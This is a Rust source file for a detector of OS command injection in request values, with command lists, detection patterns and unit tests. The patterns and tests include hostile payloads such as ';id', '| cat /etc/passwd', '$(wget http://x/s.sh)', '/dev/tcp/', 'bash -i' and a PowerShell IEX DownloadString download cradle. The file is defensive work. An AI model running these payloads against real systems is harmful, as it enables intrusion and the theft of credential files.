//! `cmdi` check: operating-system command injection.
//!
//! A shell runs a value as a command only where a command can start: after `;`, `|`, `||`,
//! `&`, `&&`, a newline, inside `$(...)` or backticks. The check finds those positions, reads
//! the word there the way a shell would (quotes and backslashes inside a word removed, so
//! `c'a't` and `w"h"oami` are `cat` and `whoami`; `$IFS`, `${IFS}`, `$9` and `$@` removed;
//! `/bin/cat` is `cat`), and looks it up among known commands.
//!
//! Prose has the same separators ("Tom & Jerry; cats | dogs", "my cat is ill; id card lost"),
//! so a command that is also an English word (`cat`, `id`, `echo`, `type`, `sleep`) counts only
//! when what follows it looks like shell, not language: nothing, another separator, an option
//! (`-la`), a path, a variable, a number or an address. Commands no sentence uses (`whoami`,
//! `uname`, `wget`, `ifconfig`, `netstat`) count after any separator. Some constructs block
//! wherever they appear: `${IFS}`, `$IFS$9`, `cmd /c`, `%COMSPEC%`, PowerShell's `IEX`,
//! `Invoke-Expression` and `-EncodedCommand`, and the SSI `<!--#exec`.
//!
//! # Performance
//!
//! A value with no separator, no `$`, `` ` ``, `%`, `{`, `\` and none of the few keywords that
//! block alone is cleared by `memchr` and one Aho-Corasick scan, without allocating. Every word
//! is read into a fixed stack buffer.

use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::Hit;

/// Commands that no sentence uses: after any separator, they are an injection.
const DISTINCT: &[&str] = &[
    "bash",
    "bitsadmin",
    "busybox",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "cmd.exe",
    "crontab",
    "csh",
    "curl",
    "getent",
    "ifconfig",
    "ipconfig",
    "ksh",
    "lsb_release",
    "mshta",
    "nc.exe",
    "ncat",
    "netcat",
    "netsh",
    "netstat",
    "nohup",
    "nproc",
    "nslookup",
    "passwd",
    "powershell",
    "powershell.exe",
    "pwsh",
    "regsvr32",
    "rundll32",
    "sh",
    "socat",
    "sudo",
    "systeminfo",
    "taskkill",
    "tasklist",
    "tcsh",
    "telnet",
    "tftp",
    "uname",
    "useradd",
    "usermod",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "cscript",
    "xterm",
    "zsh",
    "ifconfig.exe",
    "ipconfig.exe",
    "whoami.exe",
    "net.exe",
    "ping.exe",
    "cat.exe",
    "msiexec",
    "schtasks",
    "reg.exe",
];

/// Commands that are also words: they count only when followed by something shell-like.
const WORDLIKE: &[&str] = &[
    "alias",
    "awk",
    "base64",
    "call",
    "cat",
    "cd",
    "copy",
    "cp",
    "date",
    "del",
    "df",
    "dig",
    "dir",
    "du",
    "echo",
    "env",
    "eval",
    "exec",
    "exit",
    "export",
    "find",
    "finger",
    "free",
    "ftp",
    "grep",
    "gzip",
    "head",
    "history",
    "host",
    "hostname",
    "id",
    "java",
    "kill",
    "killall",
    "last",
    "less",
    "ln",
    "locate",
    "ls",
    "lua",
    "mail",
    "mkdir",
    "more",
    "mount",
    "move",
    "mv",
    "nc",
    "net",
    "nmap",
    "node",
    "od",
    "openssl",
    "perl",
    "php",
    "ping",
    "pkill",
    "printf",
    "ps",
    "pwd",
    "python",
    "python2",
    "python3",
    "read",
    "reboot",
    "ren",
    "rm",
    "ruby",
    "scp",
    "sed",
    "set",
    "shutdown",
    "sleep",
    "sort",
    "source",
    "ssh",
    "start",
    "strings",
    "su",
    "tail",
    "tar",
    "tee",
    "time",
    "timeout",
    "top",
    "touch",
    "tracert",
    "traceroute",
    "type",
    "uniq",
    "unzip",
    "ver",
    "vol",
    "w",
    "wc",
    "which",
    "who",
    "xargs",
    "xxd",
];

/// The bytes that can start a separator or an expansion.
pub(super) const META: [bool; 256] = {
    let mut t = [false; 256];
    let meta = b";|&\n\r`$%{\\";
    let mut i = 0;
    while i < meta.len() {
        t[meta[i] as usize] = true;
        i += 1;
    }
    t
};

/// Scans one decoded value.
pub fn scan(value: &str) -> Option<Hit> {
    let b = value.as_bytes();
    // Short values in one pass over a byte table; long ones with `memchr`, which skips ahead.
    let has_meta = if b.len() <= 64 {
        b.iter().any(|&c| META[usize::from(c)])
    } else {
        memchr::memchr3(b';', b'|', b'&', b).is_some()
            || memchr::memchr3(b'\n', b'\r', b'`', b).is_some()
            || memchr::memchr3(b'$', b'%', b'{', b).is_some()
            || memchr::memchr(b'\\', b).is_some()
    };
    if let Some(h) = keyword(value) {
        return Some(h);
    }
    if !has_meta {
        return leading_command(value);
    }
    let mut best: Option<Hit> = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let sep_len = match c {
            b';' | b'\n' | b'\r' | b'`' => 1,
            b'|' | b'&' => {
                if b.get(i + 1) == Some(&c) {
                    2
                } else {
                    1
                }
            }
            b'$' if b.get(i + 1) == Some(&b'(') => 2,
            b'{' => 1,
            // A literal `\n` written out in the value.
            b'\\' if matches!(b.get(i + 1), Some(b'n' | b'r')) => 2,
            // A separator still percent-encoded (the value was encoded twice).
            b'%' if encoded_separator(b.get(i + 1..i + 3)) => 3,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        if let Some(h) = after_separator(value, i, sep_len) {
            if h.level == 1 {
                return Some(h);
            }
            if best.as_ref().is_none_or(|b| h.level < b.level) {
                best = Some(h);
            }
        }
        i += sep_len;
    }
    best.or_else(|| leading_command(value))
}

/// True for the hex digits of `%0a`, `%0d`, `%26`, `%3b`, `%60` or `%7c`.
fn encoded_separator(hex: Option<&[u8]>) -> bool {
    matches!(
        hex.map(|h| [
            h[0].to_ascii_lowercase(),
            h.get(1).map_or(0, u8::to_ascii_lowercase)
        ]),
        Some([b'0', b'a' | b'd'] | [b'2', b'6'] | [b'3', b'b'] | [b'6', b'0'] | [b'7', b'c'])
    )
}

/// Whether `hay[..end]` ends with `suffix`, ignoring ASCII case.
fn ends_ci(hay: &[u8], end: usize, suffix: &[u8]) -> bool {
    end >= suffix.len() && hay[end - suffix.len()..end].eq_ignore_ascii_case(suffix)
}

/// Whether `hay[at..]` starts with `prefix`, ignoring ASCII case.
fn starts_ci(hay: &[u8], at: usize, prefix: &[u8]) -> bool {
    hay.len() >= at + prefix.len() && hay[at..at + prefix.len()].eq_ignore_ascii_case(prefix)
}

/// The exact prefilter of [`keyword`]: false only when none of its patterns occurs in `b`.
///
/// Every pattern holds one of `$ % < - ( / .`; each occurrence of those bytes is checked
/// against the patterns that hold it, around it, so URLs and user agents (full of `/`, `.`
/// and `(`) are cleared without running the automaton.
fn may_have_keyword(b: &[u8]) -> bool {
    for p in memchr::memchr3_iter(b'$', b'%', b'<', b) {
        let hit = match b[p] {
            b'$' => starts_ci(b, p + 1, b"ifs") || starts_ci(b, p + 1, b"{ifs}"),
            b'%' => starts_ci(b, p + 1, b"comspec%"),
            _ => starts_ci(b, p + 1, b"!--#exec"),
        };
        if hit {
            return true;
        }
    }
    for p in memchr::memchr3_iter(b'-', b'(', b'/', b) {
        let hit = match b[p] {
            // `invoke-expression`, `invoke-webrequest`, `start-process`, `-encodedcommand`,
            // `bash -i`, `/bin/sh -c`, `/bin/bash -c`.
            b'-' => {
                ends_ci(b, p, b"invoke")
                    || ends_ci(b, p, b"start")
                    || ends_ci(b, p, b"sh ")
                    || starts_ci(b, p, b"-encodedcommand")
            }
            // `downloadstring(`, `downloadfile(`, `iex(`, `iex (`.
            b'(' => {
                ends_ci(b, p, b"iex")
                    || ends_ci(b, p, b"iex ")
                    || ends_ci(b, p, b"downloadstring")
                    || ends_ci(b, p, b"downloadfile")
            }
            // `cmd /c`, `cmd.exe /k`, `/bin/sh -c`, `/dev/tcp/`.
            _ => {
                ends_ci(b, p, b"cmd ")
                    || ends_ci(b, p, b"cmd.exe ")
                    || starts_ci(b, p, b"/bin/")
                    || starts_ci(b, p, b"/dev/tcp/")
            }
        };
        if hit {
            return true;
        }
    }
    // `net.webclient`.
    memchr::memchr_iter(b'.', b).any(|p| ends_ci(b, p, b"net") && starts_ci(b, p, b".webclient"))
}

/// Constructs that are command injection wherever they appear.
fn keyword(value: &str) -> Option<Hit> {
    if !may_have_keyword(value.as_bytes()) {
        return None;
    }
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    const PATTERNS: [&str; 22] = [
        "${ifs}",
        "$ifs$",
        "$ifs",
        "%comspec%",
        "invoke-expression",
        "-encodedcommand",
        "invoke-webrequest",
        "downloadstring(",
        "downloadfile(",
        "net.webclient",
        "<!--#exec",
        "cmd /c",
        "cmd.exe /c",
        "cmd /k",
        "cmd.exe /k",
        "iex(",
        "iex (",
        "start-process",
        "/bin/sh -c",
        "/bin/bash -c",
        "bash -i",
        "/dev/tcp/",
    ];
    let ac = AC
        .get_or_init(|| {
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::LeftmostFirst)
                .build(PATTERNS)
                .ok()
        })
        .as_ref()?;
    let b = value.as_bytes();
    for m in ac.find_iter(b) {
        let p = PATTERNS[m.pattern().as_usize()];
        let before_ok = m.start() == 0 || !b[m.start() - 1].is_ascii_alphanumeric();
        if !before_ok && !p.starts_with(['$', '%', '<', '/', '-']) {
            continue;
        }
        if p == "$ifs"
            && b.get(m.end())
                .is_some_and(|c| c.is_ascii_alphanumeric() && *c != b'9')
        {
            continue;
        }
        return Some(Hit {
            level: 1,
            rule: "shell-construct",
            evidence: m.start()..m.end(),
        });
    }
    None
}

/// Reads the word at `start` as a shell would, into `buf`; returns its length (lower case,
/// quotes, backslashes and `$IFS`-like expansions removed, directory prefix dropped) and the
/// index just past it.
fn read_word(b: &[u8], start: usize, buf: &mut [u8; 40]) -> (usize, usize) {
    let mut n = 0;
    let mut i = start;
    while i < b.len() {
        let c = b[i];
        match c {
            // A written-out `\n` ends the word; other backslashes only quote.
            b'\\' if n > 0 && matches!(b.get(i + 1), Some(b'n' | b'r')) => break,
            b'\'' | b'"' | b'\\' => i += 1,
            b'$' => {
                // `$@`, `$*`, `$9`, `${x}`-less `$IFS`: expansions that are empty or spaces.
                match b.get(i + 1) {
                    Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
                    Some(b'{') => match memchr::memchr(b'}', &b[i..b.len().min(i + 12)]) {
                        Some(end) => i += end + 1,
                        None => break,
                    },
                    _ => break,
                }
            }
            b'/' => {
                // `/bin/cat`, `/usr/bin/id`: keep the last component.
                n = 0;
                i += 1;
            }
            c if c.is_ascii_alphanumeric() || c == b'.' || c == b'_' || c == b'-' => {
                if n < buf.len() {
                    buf[n] = c.to_ascii_lowercase();
                    n += 1;
                } else {
                    return (0, i);
                }
                i += 1;
            }
            _ => break,
        }
    }
    (n, i)
}

/// Interpreters are also the names of languages ("Skills: Java; Python"): they count only with
/// an argument (`python -c`, `perl -e '...'`, `php /tmp/x`).
const INTERPRETERS: &[&str] = &[
    "java", "lua", "node", "perl", "php", "python", "python2", "python3", "ruby",
];

/// How many words (three letters or more) stand within 64 bytes around `at..end`: markdown and
/// sentences have several, an injected value next to none.
fn words_around(b: &[u8], at: usize, end: usize) -> usize {
    let count = |w: &[u8]| {
        w.split(|c| !c.is_ascii_alphabetic())
            .filter(|w| w.len() >= 3)
            .count()
    };
    count(&b[at.saturating_sub(64)..at]) + count(&b[end..b.len().min(end + 64)])
}

/// Where [`lookup`]'s filter keeps a word: a bit out of 4096 for its length, first and last
/// byte together.
fn filter_key(word: &[u8]) -> Option<usize> {
    let (&a, &z) = (word.first()?, word.last()?);
    let k = (usize::from(a & 63) << 6 | usize::from(z & 63)) ^ word.len().wrapping_mul(613);
    Some(k % 4096)
}

fn lookup(word: &[u8]) -> Option<bool> {
    // Both lists, sorted once, searched by halving: a few comparisons instead of a walk over
    // some 160 names for every word read. Before that, a bit for the length, first and last
    // byte together turns most words away without a comparison.
    struct Names {
        sorted: Vec<(&'static [u8], bool)>,
        seen: [u64; 64],
    }
    static NAMES: OnceLock<Names> = OnceLock::new();
    let names = NAMES.get_or_init(|| {
        // `DISTINCT` first, so a name in both lists keeps `true`, as the walk did.
        let mut v: Vec<(&'static [u8], bool)> = DISTINCT
            .iter()
            .map(|w| (w.as_bytes(), true))
            .chain(WORDLIKE.iter().map(|w| (w.as_bytes(), false)))
            .collect();
        v.sort_by(|a, b| a.0.cmp(b.0));
        v.dedup_by(|later, earlier| later.0 == earlier.0);
        let mut seen = [0u64; 64];
        for (w, _) in &v {
            if let Some(k) = filter_key(w) {
                seen[k / 64] |= 1 << (k % 64);
            }
        }
        Names { sorted: v, seen }
    });
    let k = filter_key(word)?;
    if names.seen[k / 64] & (1 << (k % 64)) == 0 {
        return None;
    }
    let at = names.sorted.binary_search_by(|(w, _)| w.cmp(&word)).ok()?;
    names.sorted.get(at).map(|&(_, distinct)| distinct)
}

/// True when the text after a command reads like shell rather than a sentence.
fn shell_like_rest(rest: &[u8]) -> bool {
    let trimmed = rest.trim_ascii_start();
    let Some(&first) = trimmed.first() else {
        return true;
    };
    if matches!(
        first,
        b';' | b'|'
            | b'&'
            | b'`'
            | b')'
            | b'>'
            | b'<'
            | b'-'
            | b'/'
            | b'$'
            | b'%'
            | b'~'
            | b'\\'
            | b'\''
            | b'"'
            | b'#'
            | b'\n'
            | b'\r'
            | b'*'
            | b'{'
            | b'}'
            | b'+'
    ) {
        return true;
    }
    if first.is_ascii_digit() {
        return true;
    }
    let tok_end = trimmed
        .iter()
        .position(|c| c.is_ascii_whitespace())
        .unwrap_or(trimmed.len());
    let tok = &trimmed[..tok_end];
    // `c:\`, `c:/`, a file name with an extension, `user`/`localgroup` after `net`.
    (tok.len() >= 2 && tok[0].is_ascii_alphabetic() && tok[1] == b':')
        || tok.eq_ignore_ascii_case(b"user")
        || tok.eq_ignore_ascii_case(b"localgroup")
        || tok.contains(&b'/')
        || tok.contains(&b'\\')
        || tok.contains(&b'=')
}

/// A command at a separator: `;id`, `| cat /etc/passwd`, `$(whoami)`, `` `uname -a` ``.
fn after_separator(value: &str, at: usize, sep_len: usize) -> Option<Hit> {
    let b = value.as_bytes();
    let sep = b[at];
    let mut i = at + sep_len;
    // Spaces, `+` (a form-encoded space the caller left), `(`, `{` and quotes may precede it.
    // At most a few: `{` is a separator too, and each must cost a bounded amount of work.
    let limit = b.len().min(i + 16);
    while i < limit && matches!(b[i], b' ' | b'\t' | b'+' | b'(' | b'{' | b'!') {
        i += 1;
    }
    let mut buf = [0u8; 40];
    let (n, end) = read_word(b, i, &mut buf);
    if n == 0 {
        return None;
    }
    let distinct = lookup(&buf[..n])?;
    // The word must end there: `;idea` is not `;id`.
    if b.get(end).is_some_and(|c| c.is_ascii_alphanumeric()) {
        return None;
    }
    // Bounded windows on both sides keep the work per separator constant.
    let rest = &b[end..b.len().min(end + 128)];
    let evidence = at..end;
    let substitution = sep == b'`' || (sep == b'$' && sep_len == 2);
    if sep == b'{' {
        // Brace expansion: `{cat,/etc/passwd}`.
        return (rest.first() == Some(&b',')).then_some(Hit {
            level: 1,
            rule: "shell-command",
            evidence,
        });
    }
    if substitution {
        let closes = if sep == b'`' {
            memchr::memchr(b'`', rest).is_some()
        } else {
            memchr::memchr(b')', rest).is_some()
        };
        if distinct || closes {
            // Markdown spells code the same way: `type` in a sentence is not a command.
            let prose = words_around(b, at, end) >= 3;
            return Some(Hit {
                level: if prose && !distinct { 3 } else { 1 },
                rule: "command-substitution",
                evidence,
            });
        }
        return None;
    }
    let tight = i == at + sep_len;
    let before = &b[at.saturating_sub(64)..at];
    let words_before = before
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| w.iter().any(|c| c.is_ascii_alphabetic()))
        .count();
    if distinct {
        return Some(Hit {
            level: if shell_like_rest(rest) || words_before <= 2 {
                1
            } else {
                2
            },
            rule: "shell-command",
            evidence,
        });
    }
    if !shell_like_rest(rest) {
        return None;
    }
    if std::str::from_utf8(&buf[..n]).is_ok_and(|w| INTERPRETERS.contains(&w)) {
        let arg = rest.trim_ascii_start();
        if !matches!(arg.first(), Some(b'-' | b'/' | b'\'' | b'"' | b'$' | b'`')) {
            return None;
        }
    }
    // A word-like command after a separator, followed by shell: prose before it lowers the
    // confidence ("I lost my cat; id"), unless it sits tight against the separator.
    let rest_words = rest
        .split(|c| c.is_ascii_whitespace())
        .filter(|w| w.len() > 2 && w.iter().all(|c| c.is_ascii_alphabetic()))
        .count();
    let level = if (tight || words_before <= 2) && rest_words <= 3 {
        1
    } else {
        3
    };
    Some(Hit {
        level,
        rule: "shell-command",
        evidence,
    })
}

/// A value that is a command line by itself: `uname -a`, `ping -c 5 10.0.0.1`, `ls -la /tmp`.
pub(super) fn leading_command(value: &str) -> Option<Hit> {
    let b = value.trim_ascii().as_bytes();
    let offset = value.len() - value.trim_start().len();
    if b.is_empty() || b.len() > 200 {
        return None;
    }
    let mut buf = [0u8; 40];
    let (n, end) = read_word(b, 0, &mut buf);
    if n == 0 || b.get(end).is_some_and(|c| c.is_ascii_alphanumeric()) {
        return None;
    }
    let distinct = lookup(&buf[..n])?;
    let rest = &b[end..];
    let evidence = offset..offset + end;
    if rest.is_empty() {
        // A bare command name is a probe at most.
        return Some(Hit {
            level: if distinct { 2 } else { 4 },
            rule: "shell-command",
            evidence,
        });
    }
    let rest_t = rest.trim_ascii_start();
    let words = rest_t.split(|c| c.is_ascii_whitespace()).count();
    let first = rest_t.first().copied().unwrap_or(b' ');
    let path_from_root = b.first() == Some(&b'/');
    let option = first == b'-' && rest_t.get(1).is_some_and(|c| c.is_ascii_alphabetic());
    let var = first == b'%' || first == b'$';
    let path_arg = first == b'/' || first == b'~' || (rest_t.len() > 2 && rest_t[1] == b':');
    let address = rest_t
        .iter()
        .take_while(|c| !c.is_ascii_whitespace())
        .filter(|&&c| c == b'.')
        .count()
        == 3
        && first.is_ascii_digit();
    if words <= 5 && (option || var || address || (path_arg && (distinct || path_from_root))) {
        return Some(Hit {
            level: 1,
            rule: "shell-command",
            evidence,
        });
    }
    if words <= 5 && path_arg {
        return Some(Hit {
            level: 2,
            rule: "shell-command",
            evidence,
        });
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::screen::test_support::assert_linear;

    fn level(v: &str) -> Option<u8> {
        scan(v).map(|h| h.level)
    }

    #[test]
    fn injections_block() {
        for v in [
            ";id",
            "a);id|",
            "| cat /etc/passwd",
            "127.0.0.1 && whoami",
            "x`uname -a`",
            "$(wget http://x/s.sh)",
            "cat${IFS}/etc/passwd",
            ";c'a't /etc/passwd",
            ";w\"h\"oami",
            "{cat,/etc/passwd}",
            "& ping -n 30 127.0.0.1 &",
            "| cmd /c dir",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "uname -a",
            "ls -la /tmp",
            "\n/bin/ls -al\n",
        ] {
            assert_eq!(level(v), Some(1), "{v}");
        }
    }

    #[test]
    fn prose_passes() {
        for v in [
            "Tom & Jerry; cats | dogs",
            "my cat is ill; id card lost",
            "please echo my request to the manager",
            "Skills: Java; Python; Perl",
            "R&D department | type of work: research",
            "cat",
            "id",
        ] {
            assert_ne!(level(v), Some(1), "{v}");
        }
    }

    #[test]
    fn big_inputs_are_fast_and_safe() {
        for unit in [
            ";", ";id ", "$", "${", "`", "{", "a", "; cat ", "\\n", "'", "$(", "|/",
        ] {
            assert_linear(
                &|v| {
                    let _ = scan(v);
                },
                unit,
            );
        }
    }
}
